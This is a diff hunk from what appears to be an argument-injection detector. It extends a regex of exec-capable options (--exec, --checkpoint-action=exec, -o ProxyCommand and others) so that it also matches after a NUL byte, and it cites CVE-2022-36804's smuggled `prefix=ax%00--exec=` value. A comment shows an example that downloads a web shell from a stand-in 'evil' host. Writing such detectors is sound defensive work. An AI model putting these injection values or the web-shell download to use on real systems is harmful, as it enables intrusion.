@@ -16,13 +16,14 @@
  * (`http://x -o /var/www/html/s.php http://evil/s.txt`).
  * The shell detectors judge a command line that a shell would read; these
  * options need no shell: the program itself starts what follows them. The
- * option must stand as an argument (the value's start or after a blank,
- * in a JSON array each element is a value) and what follows it must look
+ * option must stand as an argument (the value's start, after a blank or after a NUL that
+ * splits one argument into several: Bitbucket's `prefix=ax%00--exec=…`, CVE-2022-36804; in a
+ * JSON array each element is a value) and what follows it must look
  * like a command: a quote, a path, a pipe, a `;`, a `$`, a backtick or a redirect.
  */
 
 const EXEC_OPTION =
-  /(?:^|\s|:\/\/)(?:--exec(?:-before-download)?|--checkpoint-action=exec|--to-command|--use-compress-program|--rsh|-o\s?ProxyCommand|-execdir|-exec|-T(?:[A-Za-z]{0,4}T)?T|--unzip-command|--pre)(?:=|\s+)/g;
+  /(?:^|[\s\0]|:\/\/)(?:--exec(?:-before-download)?|--checkpoint-action=exec|--to-command|--use-compress-program|--rsh|-o\s?ProxyCommand|-execdir|-exec|-T(?:[A-Za-z]{0,4}T)?T|--unzip-command|--pre)(?:=|\s+)/g;
 
 /**
  * A file-writing option standing as an argument (the value's start, after a
